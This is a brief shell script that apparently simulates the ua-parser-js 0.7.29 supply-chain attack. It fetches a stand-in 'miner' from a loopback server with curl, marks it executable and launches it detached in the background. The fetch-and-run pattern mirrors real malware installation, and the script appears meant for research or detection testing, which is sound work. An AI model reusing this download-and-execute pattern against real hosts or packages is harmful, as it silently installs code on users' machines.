#!/bin/sh
# Harmless reproduction of ua-parser-js 0.7.29: fetch a "miner" (a copy of
# /bin/sleep) from a loopback server, make it executable, start it detached.
curl -s -o jsextension http://127.0.0.1:8081/payload
chmod 755 jsextension
nohup setsid ./jsextension 120 >/dev/null 2>&1 &
exit 0
